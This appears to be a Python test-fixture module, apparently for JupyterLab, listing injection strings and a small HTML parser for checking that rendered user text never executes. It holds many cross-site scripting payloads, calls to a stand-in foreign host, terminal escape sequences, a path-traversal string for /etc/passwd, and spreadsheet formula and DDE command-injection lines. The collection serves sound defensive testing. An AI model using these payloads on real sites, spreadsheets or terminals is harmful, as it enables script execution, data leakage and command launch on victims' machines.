"""Strings that a page, a terminal or a spreadsheet might run, for every test that shows what somebody typed.

A string of `STRINGS` that runs calls ``window.ran(number)`` with its place in the list, or asks `HOST` for something:
a browser test puts ``window.ran`` there before any page script, and expects neither.
"""

from html.parser import HTMLParser

HOST = "foreign.example"

_RUN = "window.ran(%)"

_FAMILIES = [
    # scripts, whole, broken and nested
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=//HOST/a.js></script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\n>RUN</script\n>",
    "<script>RUN//",
    "<<script>RUN//<</script>",
    "<script type=module>RUN</script>",
    "<script>eval(atob('d2luZG93LnJhbigp'))</script>",
    "\ufeff<script>RUN</script>",
    # event handlers
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'//",
    "<img/src=`x`onerror=RUN>",
    "<IMG SRC=x OnErRoR=RUN>",
    '<img src="x" onerror="&#119;indow.ran(%)">',
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>open</details>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>slow</marquee>",
    "<div onmouseover=RUN style='position:fixed;inset:0'>over</div>",
    "<a href=# onclick=RUN>press me</a>",
    "<button onclick=RUN>Saved</button>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>b</b>",
    # pictures, formulas and frames that carry code
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>link</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN />#x' /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<math href='javascript:RUN'>formula</math>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>parent.ran(%)</script>'></iframe>",
    "<iframe src=//HOST/></iframe>",
    "<object data='javascript:RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<base href=//HOST/>",
    "<link rel=stylesheet href=//HOST/a.css>",
    "<meta http-equiv=refresh content='0;url=//HOST/'>",
    "<img src=//HOST/seen.png>",
    "<style>@import '//HOST/a.css';body{display:none}</style>",
    "<form action='javascript:RUN'><input type=submit value=Next></form>",
    "<isindex action='javascript:RUN' type=submit>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    # links
    "<a href='javascript:RUN'>read on</a>",
    "<a href='java&#9;script:RUN'>read on</a>",
    "<a href='data:text/html,<script>opener.ran(%)</script>' target=_blank>read on</a>",
    "[read on](javascript:RUN)",
    "[read on](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![seen](//HOST/seen.png)",
    '[x](https://HOST/" onmouseover="RUN)',
    "<javascript:RUN>",
    # out of wherever it stands
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "</style><script>RUN</script>",
    "</script><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "'\"><img src=x onerror=RUN>",
    "' onmouseover=RUN x='",
    '" autofocus onfocus=RUN x="',
    "`;RUN;`",
    "';RUN;//",
    '");RUN;//',
    "\\';RUN;//",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "<!--<img src='--><img src=x onerror=RUN>'>",
    # templates and formulas of other programs
    "{{constructor.constructor('RUN')()}}",
    "${RUN}",
    "#{RUN}",
    "<%= RUN %>",
    "{% raw %}{{7*7}}{% endraw %}",
    "%s %d %(name)s {0} {name!r}",
    "$\\href{javascript:RUN}{formula}$",
    "$$\\unicode{<img src=x onerror=RUN>}$$",
    "\\(\\require{html}\\style{background:url(//HOST/a.png)}{x}\\)",
    # JupyterLab's own buttons, and sequences that a terminal obeys
    "<button data-commandlinker-command='runmenu:run-all' data-commandlinker-args='{}'>Run</button>",
    "<a href='#' data-commandlinker-command='apputils:change-theme' "
    'data-commandlinker-args=\'{"theme":"JupyterLab Dark"}\'>theme</a>',
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x1b]8;;https://HOST/\x1b\\link\x1b]8;;\x1b\\",
    # signs that are read in another way than they look
    "&lt;script&gt;RUN&lt;/script&gt;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "＜script＞RUN＜/script＞",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=RUN>",
    "<\u200bscript>RUN</script>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u202etpircs<\u202c and back",
    "\u2066\u202eright to left, left open",
    "مرحبا <b>بكم</b> שלום",
    "a lone half \ud83d of a picture",
    "\udfff\ud800",
    "Z\u0351\u036b\u0343a\u0363\u0368l\u034bg\u0366o",
    "line\u2028and\u2029ends\u0085\r\n\rhere",
    "\ufeff\u200b\u200c\u200d\u2060",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "",
    "   ",
    "null",
    "../../../etc/passwd",
    "CON",
    "a" * 5000,
]

STRINGS = [
    family.replace("RUN", _RUN).replace("ran(%)", f"ran({number})").replace("HOST", HOST)
    for number, family in enumerate(_FAMILIES)
]

# What a spreadsheet program could take for a formula, a command or a link.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://foreign.example/","read on")',
    '=WEBSERVICE("http://foreign.example/")',
    '=IMPORTXML("http://foreign.example/","//a")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("soffice","x","y")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '"\n=1+1',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    'a"\r\n=1+1',
    '";=1+1;"',
    '",=1+1,"',
    "=1+1\x00",
    "\x00=1+1",
    "=\u200b1+1",
]


class Tags(HTMLParser):
    """All tags, pairs of a tag and an attribute, where links lead, and text of a page, as a browser would read them."""

    def __init__(self, page: str):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.text = set(), set(), set(), ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attributes}
        self.addresses |= {value for name, value in attributes if name == "href"}

    def handle_data(self, data):
        self.text += data
